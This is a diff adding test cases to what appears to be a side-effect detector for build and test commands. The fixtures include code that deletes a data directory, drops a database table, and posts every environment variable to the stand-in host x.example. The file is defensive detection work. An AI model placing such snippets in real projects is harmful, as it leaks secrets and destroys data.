@@ -218,6 +218,19 @@ test.each<readonly [name: string, commandLine: string, files: Readonly<Record<st
     { 'webpack.config.js': "module.exports = { output: { path: __dirname + '/data' } }" },
     'write data',
   ],
+  ['tests beside the code of Rust', 'cargo test', { 'src/a.rs': '#[test]\nfn t() { std::fs::remove_dir_all("data"); }' }, 'delete data'],
+  [
+    'a folder of Dart with a name',
+    'dart test',
+    { 'test/a_test.dart': "final d = Directory('data');\nd.deleteSync(recursive: true);" },
+    'delete data',
+  ],
+  [
+    'a test that sends the environment',
+    'pytest',
+    { 'tests/test_a.py': "import os, requests\nrequests.post('https://x.example', json=dict(os.environ))" },
+    'send:data https://x.example',
+  ],
 ])('%s', (_name, commandLine, files, expected) => {
   expect(effectLines(commandLine, { files: at(files) })).toContain(expected)
 })
@@ -285,6 +298,18 @@ test.each<readonly [name: string, commandLine: string, files: Readonly<Record<st
     'gradle build -x test',
     { 'src/test/kotlin/ATest.kt': 'File("data").deleteRecursively()' },
     ['execute:project build', 'write build'],
+  ],
+  [
+    'a test that empties its own database',
+    'jest',
+    { 'test/a.test.js': "const db = new Database('t')\ndb.exec('DROP TABLE users')" },
+    ['execute:project tests'],
+  ],
+  [
+    'a test that asks a server to delete',
+    'mvn test',
+    { 'src/test/java/a/ATest.java': 'mockMvc.perform(delete("/users/1"));' },
+    ['execute:project tests', 'write target'],
   ],
 ])('%s', (_name, commandLine, files, expected) => {
   expect(effectLines(commandLine, { files: at(files) })).toEqual(expected)
